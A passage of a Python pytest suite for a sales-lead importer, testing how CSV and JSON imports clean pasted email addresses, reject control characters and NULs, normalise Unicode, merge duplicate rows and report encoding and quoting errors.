        ("Company Website,Family Name,Contact Name", "c.example,Poe,Cy Poe", "Cy Poe"),
    ],
)
def test_import_header_aliases(seeded, tmp_path, header, row, name):
    path = tmp_path / "aliases.csv"
    path.write_text(f"{header}\n{row}\n")
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert (report.imported, report.rejected) == (1, [])
        assert find_leads(session, acme)[0].name == name
        assert not {"first_name", "last_name", "Given Name"} & set(
            find_leads(session, acme)[0].data
        )


def test_an_export_keeps_its_domain_over_a_website_in_data(seeded, tmp_path):
    path = tmp_path / "exp.csv"
    path.write_text("website,email,domain\nhttps://blog.d.example,dee@d.example,d.example\n")
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        import_leads_csv(session, acme, path)
        dee = get_lead(session, acme, "dee@d.example")
        assert (dee.domain, dee.data["website"]) == ("d.example", "https://blog.d.example")


PASTED_EMAILS = [
    ("bob@acme.com;", "bob@acme.com"),
    ("<carl@acme.com>", "carl@acme.com"),
    ('"fay@acme.com,"', "fay@acme.com"),
    ("mailto:hal@acme.com?subject=hi", "hal@acme.com"),
    ("MAILTO:kim@acme.com", "kim@acme.com"),
    ("jo@acme.com\u200b", "jo@acme.com"),
    ("Lee, Ann <ann@acme.com>", "ann@acme.com"),
    ("eve@acme.com.", "eve@acme.com"),
]


def test_import_cleans_pasted_email_addresses(seeded, tmp_path):
    rows = [[clean, "clean"] for _pasted, clean in PASTED_EMAILS]
    rows += [[pasted, "pasted"] for pasted, _clean in PASTED_EMAILS]
    rows += [["gus@acme..com", "x"], ["ida@-acme.com", "x"], ["\u200b", "x"]]
    out = io.StringIO()
    csv.writer(out).writerows([["email", "note"], *rows])
    path = tmp_path / "pasted.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    count = len(PASTED_EMAILS)
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert (report.imported, report.updated) == (count, 0)
        # every pasted address is the lead of its clean form: one person, one lead
        assert report.merged == [(count + 2 + i, 2 + i) for i in range(count)]
        assert report.rejected == [
            (2 * count + 2, "invalid email address 'gus@acme..com' (two dots in a row)"),
            (
                2 * count + 3,
                "invalid email address 'ida@-acme.com' (a domain part that starts or ends with -)",
            ),
            (2 * count + 4, "needs an email, or both a domain and a name"),
        ]
        stored = sorted(lead.email for lead in find_leads(session, acme))
        assert stored == sorted(clean for _pasted, clean in PASTED_EMAILS)
        assert sorted(lead.dedupe_key for lead in find_leads(session, acme)) == stored


def test_an_address_with_a_control_character_is_refused(seeded, tmp_path):
    """Regression: the email cleaner took `esc\x1bguy@x.com` (an escape inside) as an
    address; a tab inside was refused. Any control character makes an address invalid, in
    an import, a recipe's upsert and an update alike."""
    path = tmp_path / "e.csv"
    path.write_text(
        "name,email\nEsc,esc\x1bguy@x.example\nWrap,<w@x.example>\x1b\nOk,ok@x.example\n"
    )
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert report.imported == 1
        assert report.rejected == [
            (2, "invalid email address: it has a control character (U+001B)"),
            (3, "invalid email address: it has a control character (U+001B)"),
        ]
        upserted = upsert_leads(session, acme, [{"email": "a\x07b@x.example"}], source=SOURCE)
        assert upserted.skipped == [
            (0, "invalid email address: it has a control character (U+0007)")
        ]
        with pytest.raises(ValidationError, match="control character"):
            update_lead(session, acme, "ok@x.example", {"email": "ok\x1b@x.example"})
        assert [lead.email for lead in find_leads(session, acme)] == ["ok@x.example"]


def test_a_cell_holding_two_addresses_is_refused_not_cut_to_the_first(seeded, tmp_path):
    """Regression: the cleaner kept the first of `a@x.example, b@y.example` and dropped the
    second without a word; a lead is one person, so such a value is refused."""
    path = tmp_path / "two.csv"
    path.write_text(
        'name,email\nTwo,"vu@imp.example, tu@imp.example"\nSemi,s9@m.example;s10@m.example\n'
        'Named,"Lee, Ann <ann@x.example>"\nSame,ann2@x.example <ANN2@x.example>\n'
    )
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert report.rejected == [
            (2, "invalid email address: it has more than one address"),
            (3, "invalid email address: it has more than one address"),
        ]
        stored = sorted(lead.email for lead in find_leads(session, acme))
    assert stored == ["ann2@x.example", "ann@x.example"]


NUL_LEADS = [
    {"name": "NulMail", "email": "n\u0000m@x.example"},
    {"name": "Nul\u0000Name", "domain": "x.example"},
    {"name": "Dom", "domain": "x\u0000.example"},
    {"name": "Esc\u001b[31m", "email": "esc@x.example"},
    {
        "name": "Kept",
        "email": "kept@x.example",
        "company": "Ac\u0000me",
        "title": "C\ud800O",
        "data": {"no\u0000te": ["a\u0000b", {"k\u0000": "v\u0000"}], "n": 1},
    },
]
NUL_REASONS = [
    "invalid email address: it has a control character (U+0000)",
    "name has a control character (U+0000)",
    "domain has a control character (U+0000)",
    "name has a control character (U+001B)",
]


def _kept_lead_is_clean(lead: Lead) -> None:
    assert (lead.company, lead.title) == ("Acme", "C\ufffdO")
    data = {k: v for k, v in lead.data.items() if k != "_provenance"}
    assert data == {"note": ["ab", {"k": "v"}], "n": 1}
    assert "note" in lead.data["_provenance"]


def test_a_nul_never_reaches_the_store(seeded, tmp_path):
    """Regression: a NUL in a lead crashed `leads import` on PostgreSQL with a traceback
    ("PostgreSQL text fields cannot contain NUL"), and SQLite stored an email full of NULs.
    An email, name or domain with a control character rejects its lead (import, a recipe's
    upsert, an update); other text and data (keys too) lose the NUL, and a lone surrogate,
    which no database stores, becomes U+FFFD."""
    path = tmp_path / "nul.json"
    path.write_text(json.dumps(NUL_LEADS))
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert report.rejected == list(enumerate(NUL_REASONS, start=1))
        assert report.imported == 1
        _kept_lead_is_clean(get_lead(session, acme, "kept@x.example"))
        # A recipe's leads go through the same checks (another customer: new leads).
        other = resolve_customer(session, "techstartup")
        upserted = upsert_leads(session, other, NUL_LEADS, source=SOURCE)
        assert upserted.skipped == list(enumerate(NUL_REASONS))
        assert upserted.created == 1
        _kept_lead_is_clean(upserted.leads[0])
        for change in (
            {"name": "A\x00"},
            {"domain": "b\x00.example"},
            {"email": "c\x00@x.example"},
        ):
            with pytest.raises(ValidationError, match="control character"):
                update_lead(session, acme, "kept@x.example", change)
        updated = update_lead(
            session, acme, "kept@x.example", {"phone": "+1\x00555", "data": {"x\x00": "y\x00"}}
        )
        assert (updated.phone, updated.data["x"]) == ("+1555", "y")
        session.flush()
        assert all("\x00" not in (lead.name or "") for lead in find_leads(session, acme))
        # Looking one up by such text finds nothing (PostgreSQL refused the query).
        with pytest.raises(NotFoundError, match="no lead"):
            get_lead(session, acme, "kept\x00@x.example")
        assert find_leads(session, acme, emails=["n\x00m@x.example"], domain="x\x00.example") == []


def test_a_utf16_file_read_as_cp1252_is_refused_not_stored_with_nuls(seeded, tmp_path):
    """Regression: cp1252 reads every byte, so a UTF-16 file named as cp1252 came in with a
    NUL between every two letters (crashing PostgreSQL, stored by SQLite)."""
    path = tmp_path / "u16.csv"
    path.write_bytes("name,email\nAnn,ann@x.example\n".encode("utf-16"))
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        with pytest.raises(UsageError) as failed:
            import_leads_csv(session, acme, path, encoding="cp1252")
        assert failed.value.message == (
            f"{path}: line 1: a NUL character (byte 0x00) is not cp1252 text: is --encoding "
            "cp1252 the file's encoding?"
        )
        assert import_leads_csv(session, acme, path).imported == 1  # its byte-order mark


def test_a_mailto_link_and_its_address_are_one_lead(seeded):
    assert dedupe_key({"email": "mailto:zoe@x.de"}) == dedupe_key({"email": "zoe@x.de"})
    assert dedupe_key({"email": "Zoe@X.de\u200b;"}) == "zoe@x.de"
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = upsert_leads(
            session,
            acme,
            [{"email": "mailto:zoe@x.de", "name": "Zoe"}, {"email": "zoe@x.de", "title": "CEO"}],
            source=SOURCE,
        )
        assert (report.created, report.merged) == (1, [(1, 0)])
        zoe = get_lead(session, acme, "<zoe@x.de>")
        assert (zoe.email, zoe.name, zoe.title) == ("zoe@x.de", "Zoe", "CEO")
        with pytest.raises(ValidationError, match="two dots in a row"):
            update_lead(session, acme, zoe.id, {"email": "zoe@x..de"})
        assert update_lead(session, acme, zoe.id, {"email": "mailto:ZOE@y.de"}).email == "zoe@y.de"


def test_import_treats_placeholders_as_empty_in_any_column(seeded, tmp_path):
    path = tmp_path / "placeholders.csv"
    path.write_text(
        "email,website,company,score,title,tier,Notes\n"
        "ann@a.example,N/A,-,n/a,TBD,none,null\n"
        "bob@b.example,  n/a ,B Co,,\u2014,#N/A,met at expo\n"
        "N/A,c.example,,,,,\n"  # no email and no name: still not a lead
    )
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert (report.imported, report.rejected) == (
            2,
            [(4, "needs an email, or both a domain and a name")],
        )
        ann = get_lead(session, acme, "ann@a.example")
        assert (ann.domain, ann.company, ann.score, ann.title, ann.tier) == (None,) * 5
        assert "Notes" not in ann.data
        bob = get_lead(session, acme, "bob@b.example")
        assert (bob.domain, bob.company, bob.title) == (None, "B Co", None)
        assert bob.data["Notes"] == "met at expo"
        # a provider's placeholder is no value either
        upsert_leads(session, acme, [{"email": "cy@c.example", "domain": "N/A"}], source=SOURCE)
        assert get_lead(session, acme, "cy@c.example").domain is None


def test_names_in_either_unicode_form_are_one_lead(seeded, tmp_path):
    nfc = unicodedata.normalize("NFC", "Renée Côté")
    nfd = unicodedata.normalize("NFD", nfc)
    assert nfc != nfd
    email_nfc = unicodedata.normalize("NFC", "renée@y.example")
    email_nfd = unicodedata.normalize("NFD", email_nfc)
    path = tmp_path / "unicode.csv"
    path.write_text(
        f"name,domain,company,email,{unicodedata.normalize('NFD', 'Société')}\n"
        f"{nfc},x.example,Café,,{nfc}\n"
        f"{nfd},x.example,,,\n"
        f"Ren,,,{email_nfd},\n"
        f"Ren,,,{email_nfc},\n",
        encoding="utf-8",
    )
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert (report.imported, report.merged, report.rejected) == (2, [(3, 2), (5, 4)], [])
        renee = find_leads(session, acme, domain="x.example")[0]
        assert renee.name == nfc
        assert renee.data[unicodedata.normalize("NFC", "Société")] == nfc  # header and cell
        assert get_lead(session, acme, email_nfd).email == email_nfc
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        cafe = unicodedata.normalize("NFD", "Café")
        report = upsert_leads(
            session, acme, [{"name": nfd, "domain": "x.example", "title": cafe}], source=SOURCE
        )
        assert report.created == 0
        renee = find_leads(session, acme, domain="x.example")[0]
        assert (renee.name, renee.title) == (nfc, unicodedata.normalize("NFC", cafe))


def test_import_reports_rows_merged_into_an_earlier_row(seeded, tmp_path):
    path = tmp_path / "dups.csv"
    path.write_text(
        "name,email,domain,title\n"
        "Ann Lee,ann@a.example,a.example,\n"  # row 2
        "Bob Roe,bob@b.example,,\n"
        "Cy Poe,,c.example,\n"
        "Ann Lee,ann@a.example,,CEO\n"  # row 5: same email as row 2
        "Ann Lee,ANN@A.EXAMPLE,,\n"  # row 6: upper-cased
        "cy  poe,,www.c.example,CTO\n"  # row 7: same domain and name as row 4
        "Ann Lee,,a.example,\n"  # row 8: no email, but row 2's domain and name
        "Dee,nope,,\n"  # row 9: rejected
    )
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert (report.imported, report.updated) == (3, 0)
        assert report.merged == [(5, 2), (6, 2), (7, 4), (8, 2)]
        assert report.rejected == [(9, "invalid email address 'nope'")]
        assert report.to_dict()["merged"] == [
            {"row": 5, "merged_into": 2},
            {"row": 6, "merged_into": 2},
            {"row": 7, "merged_into": 4},
            {"row": 8, "merged_into": 2},
        ]
        assert get_lead(session, acme, "ann@a.example").title == "CEO"
        assert _count(session) == 3


@pytest.mark.parametrize(
    ("bad_row", "line", "after"),
    [
        ('"Bob,bob@b.example,b.example\n', 3, 2),  # the quote opens the row
        ('Bob,"bob@b.example,b.example\n', 3, 2),  # or a later field
        ('Bob,bob@b.example,"b.example\n', 3, 2),  # or the last
    ],
)
def test_import_reports_an_unterminated_quoted_field(seeded, tmp_path, bad_row, line, after):
    path = tmp_path / "quote.csv"
    path.write_text(
        "name,email,domain\n"
        "Ann,ann@a.example,a.example\n"
        + bad_row
        + "Cy,cy@c.example,c.example\n"
        + 'Dee,dee@d.example,"d.example"\n'
    )
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert (report.imported, report.updated) == (1, 0)
        assert report.rejected == [
            (
                3,
                f"an unterminated quoted field: the quote opening it on line {line} is never "
                f"closed, so the {after} line(s) after it were read into it; close it and "
                "import again",
            )
        ]
        assert [lead.email for lead in find_leads(session, acme)] == ["ann@a.example"]


def test_import_unterminated_quote_on_the_last_line_and_in_the_header(seeded, tmp_path):
    path = tmp_path / "quote.csv"
    path.write_text('email,name\nann@a.example,Ann\nbob@b.example,"Bob')
    with seeded.session() as session:
        report = import_leads_csv(session, resolve_customer(session, "acme"), path)
        assert report.rejected == [
            (3, "an unterminated quoted field: the quote opening it on line 3 is never "
                "closed; close it and import again")
        ]  # fmt: skip
        # closed quotes, "" inside, text after a closing quote and a value over two lines
        # are no such thing
        path.write_text(
            'email,name,note\n"c@c.example","C ""Cy"" Poe",\nd@d.example,"Dee" Oz,"two\nlines"\n'
        )
        report = import_leads_csv(session, resolve_customer(session, "acme"), path)
        assert (report.imported, report.rejected) == (2, [])
        assert (
            get_lead(session, resolve_customer(session, "acme"), "d@d.example").data["note"]
            == "two\nlines"
        )
        path.write_text('email,"name\nann@a.example,Ann\n')
        with pytest.raises(UsageError, match="line 1: the header has a quoted field that is"):
            import_leads_csv(session, resolve_customer(session, "acme"), path)


def test_import_csv_semicolons(seeded, tmp_path):
    path = tmp_path / "excel.csv"
    path.write_text("\ufeffname;email\nOla;ola@r.example\n")
    with seeded.session() as session:
        report = import_leads_csv(session, resolve_customer(session, "acme"), path)
        assert (report.imported, report.rejected) == (1, [])


ENCODED = "name,email\nRenée Côté,renee@x.example\nJoão,joao@x.example\n"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-8-sig", "utf-32"])
def test_import_reads_utf16_and_utf32_with_a_byte_order_mark(seeded, tmp_path, encoding):
    path = tmp_path / "unicode.csv"
    data = ENCODED.encode(encoding)
    if encoding == "utf-16-be":
        data = codecs.BOM_UTF16_BE + data  # the codec names the order and writes no mark
    path.write_bytes(data)
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert (report.imported, report.rejected) == (2, [])
        assert get_lead(session, acme, "renee@x.example").name == "Renée Côté"


def test_import_names_the_byte_that_is_not_utf8_and_takes_an_encoding(seeded, tmp_path):
    path = tmp_path / "windows.csv"
    path.write_bytes(ENCODED.encode("cp1252"))
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        with pytest.raises(UsageError) as failed:
            import_leads_csv(session, acme, path)
        assert failed.value.message == (
            f"{path}: line 2: byte 0xe9 is not UTF-8 text: save the file as UTF-8 (Excel: "
            '"CSV UTF-8"), or name its encoding, e.g. --encoding cp1252 (Excel on Windows) or '
            "--encoding latin-1"
        )
        report = import_leads_csv(session, acme, path, encoding="cp1252")
        assert (report.imported, report.rejected) == (2, [])
        assert get_lead(session, acme, "joao@x.example").name == "João"
        with pytest.raises(UsageError, match="unknown encoding 'klingon'"):
            import_leads_csv(session, acme, path, encoding="klingon")
        path.write_bytes(b"name,email\nA\x81,a@x.example\n")
        with pytest.raises(
            UsageError, match="line 2: byte 0x81 is not cp1252 text: is --encoding cp1252 the"
        ):
            import_leads_csv(session, acme, path, encoding="cp1252")
        path.write_bytes(ENCODED.encode("utf-16-le"))  # no byte-order mark
        with pytest.raises(UsageError, match="line 1: byte 0x00 .* --encoding utf-16-le"):
            import_leads_csv(session, acme, path)
        assert import_leads_csv(session, acme, path, encoding="utf-16-le").rejected == []


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("", "the file is empty"),
        ("first,last\nAnn,Lee\n", "no usable header.*found: first, last"),
        ("email,Email\na@b.example,a@b.example\n", "appears more than once"),
        (b"email\n\xff\xfe@x\n", "not UTF-8"),
    ],
)
def test_import_csv_unusable_files(seeded, tmp_path, content, message):
    path = tmp_path / "bad.csv"
    if isinstance(content, bytes):
        path.write_bytes(content)
    elif content is not None:
        path.write_text(content)
    with seeded.session() as session, pytest.raises(UsageError, match=message):
        import_leads_csv(session, resolve_customer(session, "acme"), path)


def test_import_csv_of_a_missing_file_is_not_found(seeded, tmp_path):
    """As `hunter run FILE` says it (exit 3), not a usage error."""
    with seeded.session() as session, pytest.raises(NotFoundError, match="no such file"):
        import_leads_csv(session, resolve_customer(session, "acme"), tmp_path / "nope.csv")
